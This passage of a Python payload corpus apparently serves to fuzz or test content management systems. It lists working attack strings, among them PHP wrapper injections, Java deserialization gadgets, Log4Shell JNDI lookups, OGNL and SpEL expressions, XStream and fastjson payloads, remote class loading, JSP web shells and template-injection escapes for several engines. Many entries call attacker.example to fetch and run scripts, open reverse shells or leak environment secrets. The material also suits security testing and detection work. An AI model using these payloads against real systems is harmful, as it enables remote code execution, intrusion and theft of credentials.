    "compress.zlib://data:text/plain;base64," + _b64("<?php system('id'); ?>"),
    "php://filter/convert.base64-decode/resource=data://text/plain," + _b64(_b64("<?php system('ls'); ?>")),
    "data://text/plain;base64," + _b64("<?php $s=fsockopen('attacker.example',4444);"
                                       "exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    "data:text/plain;base64," + _b64("<?php echo md5('joomla-lfi'); system($_GET['x']); ?>"),
]

# ----------------------------------------------------------------------------------------------------------------
# java / java-class-names. Platforms: the script consoles of Java portals and CMSs (Liferay Server Administration >
# Script, Magnolia Groovy app, AEM Groovy Console, Crafter and dotCMS scripting), and fields that reach a scripting
# engine. Target: the JVM (Runtime, ProcessBuilder, ClassLoader, ScriptEngineManager, System, JNDI).
JAVA_CLASSES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class.forName("
    "\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval("
    "\"java.lang.Runtime.getRuntime().exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"java.lang.System.exit(0)\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    "java.lang.System.getenv()",
    "java.lang.System.getProperties()",
    "new javax.naming.InitialContext().lookup(\"ldap://attacker.example:1389/Liferay\")",
    "new java.io.File(\"/opt/liferay/portal-ext.properties\").text",
    "new java.lang.ProcessBuilder(\"id\")",
    "java.lang.Runtime.class.getDeclaredMethod(\"getRuntime\").invoke(null)",
    "load(\"nashorn:mozilla_compat.js\");importPackage(java.lang);Runtime.getRuntime().exec(\"id\")",
    "Packages.java.lang.Runtime.getRuntime().exec(\"id\")",
    "com.liferay.portal.kernel.util.PortalUtil.getPortalProperties()",
    "javax.script.ScriptEngineManager",
    "sun.misc.Unsafe.getUnsafe()",
    "java.lang.reflect.Method m = Runtime.class.getMethod(\"exec\", String.class);",
]

# java / java-process-spawn. Platforms: the same script consoles, XWiki wiki macros, Jahia and AEM Groovy
# consoles, JShell-based playgrounds. Target: the operating system through the JVM's process API.
JAVA_SPAWN: list[Entry] = [
    "new ProcessBuilder(\"/bin/sh\",\"-c\",\"curl http://attacker.example/x | sh\").start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/attacker.example/4444 0>&1\"})",
    "\"id\".execute().text",
    "[\"sh\",\"-c\",\"cat /etc/passwd\"].execute().text",
    "def proc = \"cat /opt/magnolia/WEB-INF/config/default/magnolia.properties\".execute(); println proc.text",
    # XWiki: wiki syntax with a Groovy macro, and the SolrSearch injection that renders it for guests
    "{{groovy}}println \"whoami\".execute().text{{/groovy}}",
    "}}}{{async async=false}}{{groovy}}println(\"id\".execute().text){{/groovy}}{{/async}}",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "new java.lang.ProcessBuilder[\"(java.lang.String[])\"]([\"id\"]).start()",
    "new bsh.Interpreter().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "Runtime.getRuntime().exec(\"cmd.exe /c powershell -nop -c iwr http://attacker.example/s.ps1|iex\")",
    "new ProcessBuilder([\"cmd\",\"/c\",\"type C:\\\\Windows\\\\win.ini\"]).redirectErrorStream(true).start()",
    "java.lang.Runtime.getRuntime().exec(\"nslookup cms.attacker.example\")",
    "new org.apache.commons.exec.DefaultExecutor().execute(org.apache.commons.exec.CommandLine.parse(\"id\"))",
    "Runtime.getRuntime().exec(\"/bin/sh -c $@|sh . echo id\")",
]

# java / java-serialization. Platforms: Liferay tunnel-web (/api/liferay/do), JSF ViewState in Liferay Faces and
# OpenCms forms, JBoss JMXInvokerServlet under Magnolia/Hippo, Apache Roller. Target: ObjectInputStream.readObject
# (here the URLDNS chain, a DNS callback that proves the stream is read).
JAVA_SERIALIZATION: list[Entry] = [
    # the stream's bytes as they go over the wire (percent-encoded as bytes in the query or form body)
    (_latin(URLDNS), *QS),
    (_latin(URLDNS_2), "form", "rs-raw-body"),
    (_latin(URLDNS_6), "query", "rs-raw-body"),
    # base64 (rO0AB...) in a hidden field, cookie or ViewState
    base64.b64encode(URLDNS_3).decode(),
    base64.b64encode(URLDNS_4).decode(),
    base64.urlsafe_b64encode(URLDNS_5).decode().rstrip("="),
    # percent-encoded text, decoded once more by the servlet
    _pct(URLDNS_7),
    urllib.parse.quote(URLDNS_8, safe=""),
    # hex, as some portlets and c3p0 write it
    URLDNS_9.hex().upper(),
    URLDNS_10.hex(),
    # gzip then base64 (H4sI...): JSF server-side-state-off ViewState
    _gzb64(URLDNS_11),
    # base64 with MIME line breaks, as an import tool stores it
    base64.encodebytes(URLDNS_12).decode(),
    # the magic alone with a class descriptor: what a probe sends to see whether the endpoint deserializes
    base64.b64encode(_jser([("java.lang.Integer", 0x12E2A0A4F7818738)])).decode(),
    _pct(_jser([("java.util.ArrayList", 0x7881D21D99C7619D)])),
]

# java / deserialization-gadgets. Platforms: the same endpoints plus Liferay's JSON web services (/api/jsonws,
# CVE-2020-7961 +defaultData type hints), ROME-based RSS/Atom aggregators (Apache Roller, Liferay RSS portlet).
# Target: ObjectInputStream and c3p0's HexAsciiSerializedMap with gadget chains (commons-collections,
# commons-beanutils, Spring, Groovy, JDK 7u21, c3p0, ROME, Hibernate, Rhino, MyFaces).
GADGETS: list[Entry] = [
    base64.b64encode(CC1).decode(),
    base64.b64encode(CC1_CURL).decode(),
    base64.b64encode(CC5).decode(),
    CC6.hex().upper(),
    (_latin(CC6_WGET), *QS),
    base64.b64encode(CC2).decode(),
    base64.b64encode(CB1).decode(),
    base64.b64encode(SPRING1).decode(),
    _pct(SPRING2),
    base64.b64encode(GROOVY1).decode(),
    base64.b64encode(JDK7U21).decode(),
    base64.b64encode(C3P0).decode(),
    base64.b64encode(ROME).decode(),
    _gzb64(ROME),
    base64.b64encode(HIBERNATE).decode(),
    base64.b64encode(RHINO).decode(),
    base64.b64encode(MYFACES).decode(),
    # Liferay JSON web services: a type hint instantiates c3p0, whose setter deserializes the hex stream
    ("cmd={\"/expandocolumn/update-column\":{}}&p_auth=o3lt8q1F&formDate=1585270368703&columnId=123&name=x"
     "&type=1&+defaultData=com.mchange.v2.c3p0.WrapperConnectionPoolDataSource"
     "&defaultData.userOverridesAsString=HexAsciiSerializedMap:" + CC1.hex().upper() + ";", *KV),
    ("+defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource={\"userOverridesAsString\":"
     "\"HexAsciiSerializedMap:" + CC6.hex().upper() + ";\"}", *KV),
    ('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
     + CB1.hex().upper() + ';"}]', *JB),
]

# java / log4shell. Platforms: Java CMSs and the search behind PHP CMSs (Drupal search_api_solr and TYPO3 EXT:solr
# hand the query to Solr; Liferay, Magnolia, Hippo/Bloomreach, Jahia, dotCMS, Crafter and OpenCms log user agents,
# search terms and login names). Target: Log4j 2 message lookups and the JNDI client of the JVM.
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://attacker.example:1389/Basic/Command/Base64/" + _b64("curl attacker.example/l|sh") + "}",
    "${jndi:rmi://attacker.example:1099/hippo}",
    "${jndi:dns://attacker.example/magnolia}",
    "${jndi:ldaps://attacker.example/jahia}",
    "${jndi:iiop://attacker.example/dotcms}",
    "${jndi:corba://attacker.example/crafter}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/solr}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/typo3}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/drupal}",
    "${${upper:j}ndi:${upper:l}${upper:d}${upper:a}${upper:p}://attacker.example/opencms}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/aem}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/liferay}",
    "${${lower:${lower:jndi}}:${lower:rmi}://attacker.example/roller}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/alfresco}",
    # secrets in the callback's host name
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "${jndi:dns://${env:LIFERAY_JDBC_PERIOD_DEFAULT_PERIOD_PASSWORD}.attacker.example}",
    "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/v}",
    "${jndi:ldap://${ctx:loginId}.attacker.example/login}",
    # the 2.15.0 localhost-only bypass
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
    # encoded where the CMS decodes once more, or where JSON unescapes it
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fsearch_api%7D",
    "$%7Bjndi:ldap://attacker.example/tx_solr%7D",
    ('{"q":"\\u0024{jndi:ldap://attacker.example/headless}","lang":"en"}', *JB),
]

# java / expression-language. Platforms: Confluence (OGNL: CVE-2022-26134 in the URI, CVE-2021-26084 queryString,
# CVE-2023-22527 label), Struts-based portals, Spring-based CMSs and their SpEL (Halo, Broadleaf, Spring Data REST
# sites), MVEL rule actions and JEXL conditions in Java CMS workflows, JSP/JSF templates of OpenCms, Jahia and
# Liferay Faces. Target: the expression evaluator.
EL: list[Entry] = [
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
     "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
     *PA),
    ("queryString=aaa\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022java.lang.Runtime\\u0022)"
     ".getMethod(\\u0022getRuntime\\u0022,null).invoke(null,null).exec(\\u0022id\\u0022)}+\\u0027", *KV),
    ("label=\\u0027+#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet("
     "\\u0027ognl\\u0027).findValue(#parameters.x,{})+\\u0027&x=@org.apache.struts2.ServletActionContext"
     "@getResponse().setHeader('X-Cmd-Response',(new freemarker.template.utility.Execute()).exec({'id'}))", *KV),
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'})).redirectErrorStream(true)"
    ".start()}",
    "${@java.lang.Runtime@getRuntime().exec(\"id\")}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.System@getenv()}",
    # SpEL
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "#{new java.lang.ProcessBuilder({'id'}).start()}",
    "#{T(java.lang.System).getenv()}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
    "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    # MVEL
    "@{java.lang.Runtime.getRuntime().exec(\"id\")}",
    "@foreach{e : java.lang.System.getenv().entrySet()}@{e}@end{}",
    "def x() { Runtime.getRuntime().exec('id') }; x();",
    # JEXL
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')",
    "var pb = new('java.lang.ProcessBuilder', ['sh','-c','id']); pb.start()",
    # JSP and JSF EL
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')}",
    "${pageContext.servletContext.getRealPath('/')}",
    "${applicationScope}",
    "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\")"
    ".eval(\"java.lang.Runtime.getRuntime().exec('id')\")}",
    "${Runtime.getRuntime().exec('id')}",
    "#{request.getClass().getClassLoader()}",
    "#{facesContext.externalContext.getSessionMap()}",
]

# java / polymorphic-deserialization. Platforms: Oracle WebCenter Sites on WebLogic (wls-wsat XMLDecoder),
# Java CMS REST endpoints unmarshalling XML with XStream, fastjson in Java CMSs (PublicCMS, JeeCMS, Jspxcms),
# Jackson default typing in portal REST APIs, Magnolia light-module YAML through SnakeYAML. Target: the
# unmarshaller's type resolution (JNDI lookups, ProcessBuilder).
POLYMORPHIC: list[Entry] = [
    ('<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">'
     "<target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
     "<action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ('<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.'
     'EventHandler"><target class="java.lang.ProcessBuilder"><command><string>sh</string><string>-c</string>'
     "<string>curl attacker.example|sh</string></command></target><action>start</action></handler>"
     "</dynamic-proxy><string>x</string></entry></tree-map>", *XB),
    ("<linked-hash-set><com.sun.rowset.JdbcRowSetImpl><dataSourceName>ldap://attacker.example:1389/x"
     "</dataSourceName><autoCommit>true</autoCommit></com.sun.rowset.JdbcRowSetImpl></linked-hash-set>", *XB),
    ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
     '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" '
     'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
     'length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void>'
     '<void index="2"><string>id</string></void></array><void method="start"/></void></java>'
     "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    ('<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string>'
     "</void></object></java>", *XB),
    ('<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String"'
     ' length="1"><void index="0"><string>whoami</string></void></array><void method="start"/></object></java>',
     *XB),
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Exploit",'
     '"autoCommit":true}', *JB),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
     '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example:1099/Exploit","autoCommit":true}}',
     *JB),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://attacker.example/a","autoCommit":true}',
     *JB),
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://attacker.example/b","autoCommit":true}',
     *JB),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://attacker.example/c","autoCommit":true}',
     *JB),
    '{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",'
    '"properties":{"data_source":"ldap://attacker.example/d"}}',
    '{"@type":"java.net.Inet4Address","val":"fastjson.attacker.example"}',
    ('{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://attacker.example/e"}', *JB),
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example/f","autoCommit":true}]', *JB),
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://attacker.example/g"}]', *JB),
    '["org.springframework.context.support.ClassPathXmlApplicationContext","http://attacker.example/spel.xml"]',
    ('{"id":1,"obj":["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://attacker.example/h",'
     '"loginTimeout":0}]}', *JB),
    ('{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://attacker.example/i"}', *JB),
    ('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://attacker.example/magnolia", autoCommit: true}\n',
     *YB),
]

# java / class-loading. Platforms: Groovy and script consoles (Liferay, AEM, Magnolia), SpEL in Spring-based CMSs,
# fastjson and SnakeYAML endpoints. Target: the JVM's class loaders (remote jars, defineClass on attacker bytes).
CLASS_LOADING: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://attacker.example/yaml-payload.jar\"]]]]\n", *YB),
    "def b=java.util.Base64.getDecoder().decode(\"" + CLASS_BYTES + "\");def m=ClassLoader.class"
    ".getDeclaredMethod(\"defineClass\",byte[].class,int.class,int.class);m.setAccessible(true);"
    "m.invoke(ClassLoader.getSystemClassLoader(),b,0,b.length).newInstance()",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + CLASS_BYTES + "'),new javax.management.loading.MLet(new java.net.URL[0],"
    "T(java.lang.Thread).currentThread().getContextClassLoader())).newInstance()",
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
     '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A'
     '$8dQ$cbN$c2$40$U$3d$D$85$wU$c4$f8$7e$bf$c1$85$c0$c6$b8$v$a2$L$T$8d$b8$Q$8d$ab$d2$Oe$a4t$c8$b4$f8$f8"}', *JB),
    "new java.net.URL(\"jar:http://attacker.example/evil.jar!/Exploit.class\").openStream()",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(\""
    + CLASS_BYTES + "\"))",
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + CLASS_BYTES
     + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}', *JB),
    "this.class.classLoader.parseClass(new URL(\"http://attacker.example/Evil.groovy\").text).newInstance().run()",
    "new groovy.lang.GroovyClassLoader().parseClass(\"class X{static{\\\"id\\\".execute()}}\").newInstance()",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://attacker.example/\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "var cl=new java.net.URLClassLoader([new java.net.URL(\"http://attacker.example/x.jar\")]);"
    "cl.loadClass(\"Exploit\").newInstance()",
]

# java / jsp-upload. Platforms: media libraries of Java CMSs (Liferay Documents and Media, OpenCms explorer,
# Jahia, dotCMS, Magnolia DAM) and WebCenter Sites asset uploads. Target: the servlet container that compiles and
# runs an uploaded .jsp/.jspx (the upload's file names carry this set's JSP shell as the file's content).
JSP_SHELL = ("<%@ page import=\"java.util.*,java.io.*\"%><% Process p=Runtime.getRuntime().exec("
             "request.getParameter(\"cmd\")); BufferedReader r=new BufferedReader(new InputStreamReader("
             "p.getInputStream())); String l; while((l=r.readLine())!=null){out.println(l);} %>")
JSP_UPLOAD: list[Entry] = [
    JSP_SHELL,
    "<% out.print(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()); %>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>"
    "Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>",
    "<jsp:scriptlet>new ProcessBuilder(request.getParameter(\"c\").split(\" \")).start();</jsp:scriptlet>",
    "<%new java.io.FileOutputStream(application.getRealPath(\"/\")+\"s.jsp\").write("
    "request.getParameter(\"d\").getBytes());%>",
    "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{"
    "U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if ("
    "request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";session.putValue(\"u\",k);"
    "Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass()"
    ".getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance()"
    ".equals(pageContext);}%>",
    ("shell.jsp", *UP),
    ("cover-image.jsp;.jpg", *UP),
    ("cmd.jspx", *UP),
    ("logo.jsp%00.gif", *UP),
    ("../../../../opt/liferay/tomcat/webapps/ROOT/x.jsp", *UP),
    ("banner.JSP", *UP),
    ("thumb.jsp.", *UP),
    ("press-kit.war", *UP),
]

# ----------------------------------------------------------------------------------------------------------------
# ssti / jinja2. Platforms: Python publishing tools with user-editable Jinja2 (Lektor and Pelican themes edited in
# a web admin, CKAN page templates, Flask-based CMSs and newsletter builders, Superset-like dashboards' "markup").
# Target: the Jinja2 template engine (sandbox escape to os.popen).
JINJA2: list[Entry] = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ config.items() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('uname -a').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('ls /srv/ckan').read() }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')() }}",
    "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}",
]

# ssti / twig. Platforms: Craft CMS, Drupal 8+, Grav, Bolt, October CMS, Symfony-based publishing sites where an
# editor or a form field reaches Twig's string loader. Target: the Twig template engine (filters calling PHP).
TWIG: list[Entry] = [
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}",
    "{{ ['id']|filter('system') }}",
    "{{ ['cat /etc/passwd']|map('system')|join }}",
    "{{ [0]|reduce('system','id') }}",
    "{{ ['id',1]|sort('passthru') }}",
    "{{ craft.app.config.db.password }}",
    "{{ craft.app.view.renderString('{{ [\"id\"]|map(\"system\")|join }}') }}",
    "{{ grav.twig.twig.registerUndefinedFilterCallback('system') }}{{ grav.twig.twig.getFilter('id') }}",
    "{{ ['bash -c \"id\"']|map('passthru')|join }}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{% set cmd = 'id' %}{{ {(cmd):'shell_exec'}|map('call_user_func')|join }}",
]

# ssti / freemarker. Platforms: Liferay web content templates (FTL), Magnolia and Crafter CMS templates, Alfresco
# email templates, Apache OFBiz content, Halo themes. Target: the FreeMarker engine (?new and ?api escapes).
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "<#assign js=\"freemarker.template.utility.JythonRuntime\"?new()><@js>import os;os.system(\"id\")</@js>",
    "${serviceLocator.findService(\"com.liferay.portal.kernel.service.UserLocalService\").getUsers(-1,-1)}",
    "<#assign ctx = staticUtil[\"com.liferay.portal.kernel.util.PropsUtil\"]>${ctx.get(\"jdbc.default.password\")}",
    "<#assign cl=article?api.class.protectionDomain.classLoader><#assign ex=cl.loadClass("
    "\"freemarker.template.utility.Execute\")?new()>${ex(\"id\")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#list .data_model?keys as k>${k} </#list>",
    "${\"freemarker.template.utility.Execute\"?new()(\"wget -qO- http://attacker.example/c|sh\")}",
]

# ssti / velocity. Platforms: Confluence (user macros, the widget connector's _template, CVE-2019-3396), XWiki
# velocity macros, dotCMS content, Apache Roller themes, Jira/Confluence email templates. Target: the Velocity
# engine (reflection to java.lang.Runtime, template loading from a URL or file).
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))"
    "$ex.waitFor()#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])"
    "$x.valueOf($x.class.forName('java.lang.Character').toChars($out.read()))#end",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "{{velocity}}$request.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\"){{/velocity}}",
    "#set($s=\"\")$s.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"id\")",
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
     '"width":"1000","height":"1000","_template":"file:///etc/passwd"}}}', *JB),
    ('{"contentId":"786458","macro":{"name":"widget","body":"","params":{"url":"https://www.youtube.com/watch?v=x",'
     '"width":"1","height":"1","_template":"https://attacker.example/cmd.vm","command":"id"}}}', *JB),
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"curl attacker.example|sh\")",
    "$dotcontent.getClass().forName(\"java.lang.System\").getenv()",
    "#set($str=$request.getClass().forName(\"java.lang.String\"))"
    "#set($p=$request.getClass().forName(\"java.lang.ProcessBuilder\"))",
    "$application.getAttribute(\"org.apache.catalina.jsp_classpath\")",
]

# ssti / thymeleaf. Platforms: Spring Boot CMSs and blog engines whose controllers build a view or fragment name
# from the request (theme, lang, template path), or inline editor content with [[...]]. Target: Thymeleaf's SpEL.
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    ("__${T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/th\")}__::.x", *PA),
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${@environment.getProperty('spring.datasource.password')})]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('whoami')}\"></p>",
    "__${T (java.lang.Runtime).getRuntime().exec(\"id\")}__::main.x",
    "[[${#ctx.getClass().getClassLoader()}]]",
    "<div th:utext=\"${@systemProperties}\"></div>",
]

# ssti / erb. Platforms: Rails CMSs that let editors write ERB layouts or snippets (Refinery, Comfortable Mexican
# Sofa, Alchemy, Spina, Camaleon themes) and Jekyll-like generators with ERB front matter. Target: Ruby's ERB.
ERB: list[Entry] = [
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.read('/etc/passwd') %>",
    "<%= Rails.application.secrets.secret_key_base %>",
    "<%= ENV.to_h %>",
    "<%= require 'open3'; Open3.capture2('uname -a') %>",
    "<%= Dir.entries('/') %>",
    "<%= Rails.application.credentials.config %>",
    "<% Kernel.exec('curl http://attacker.example/e.sh | sh') %>",
]

# ssti / smarty. Platforms: CMS Made Simple, PrestaShop, Piwigo, Tiki Wiki, Serendipity, WHMCS email templates.
# Target: the Smarty engine (PHP functions, {php}, internal classes, CVE-2021-26120 and CVE-2021-29454).
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
    "{if system('cat /etc/passwd')}{/if}",
    "{fetch file='/etc/passwd'}",
    "{include file=\"file:/etc/passwd\"}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{$smarty.version}{passthru($smarty.get.c)}",
]

# ssti / handlebars. Platforms: Ghost themes and custom helpers, Node.js newsletter builders using Handlebars for
# member emails. Target: the Handlebars engine (constructor access to Function, prototype lookups).
HANDLEBARS: list[Entry] = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
    "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}"
    "{{/with}}{{/with}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
    "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
    "{{this.pop}}{{this.push \"return process.mainModule.require('fs').readFileSync('/etc/passwd');\"}}"
    "{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}"
